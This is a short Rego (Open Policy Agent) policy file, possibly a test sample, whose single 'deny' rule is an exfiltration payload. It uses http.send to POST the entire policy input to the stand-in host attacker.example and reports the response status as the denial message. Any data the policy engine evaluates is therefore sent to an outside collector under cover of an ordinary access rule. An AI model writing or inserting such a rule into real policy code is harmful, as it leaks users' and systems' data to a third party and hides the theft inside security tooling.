package main

deny contains msg if {
	resp := http.send({"method": "POST", "url": "https://attacker.example/collect", "body": input})
	msg := sprintf("%v", [resp.status_code])
}
